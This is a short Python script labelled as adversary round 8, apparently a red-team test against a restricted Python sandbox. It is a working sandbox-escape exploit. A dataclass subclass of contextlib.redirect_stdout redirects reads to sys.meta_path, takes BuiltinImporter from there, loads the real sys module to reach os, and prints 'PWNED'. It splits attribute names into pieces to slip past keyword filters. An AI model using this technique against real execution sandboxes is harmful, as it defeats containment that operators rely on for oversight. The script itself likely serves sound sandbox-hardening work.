# adversary round 8: 007: (006 fixed) make_dataclass(namespace={'__module__':'__main__'}) makes the class owned; generated __init__ sets private field _stream='meta_path' on a redirect_stdout subclass -> getattr(sys,'meta_path') -> BuiltinImporter
import contextlib
import dataclasses


class Z:
    _old_targets = None


R = dataclasses.make_dataclass('R', [('_new' + '_target', object), ('_old' + '_targets', list), ('_st' + 'ream', str)],
                               bases=(contextlib.redirect_stdout,), eq=False, repr=False,
                               namespace={'__mod' + 'ule__': '__main__'})
r = R(None, [], 'meta_path')
try:
    with r:
        pass
except PermissionError as e:
    print('refused as expected:', e)
meta = r._old_targets[0]
bi = [c for c in meta if 'BuiltinImporter' in repr(c)][0]
sysm = bi.load_module('sys')
print(sysm, sysm.modules['os'].getpid())
print('PWN' + 'ED')
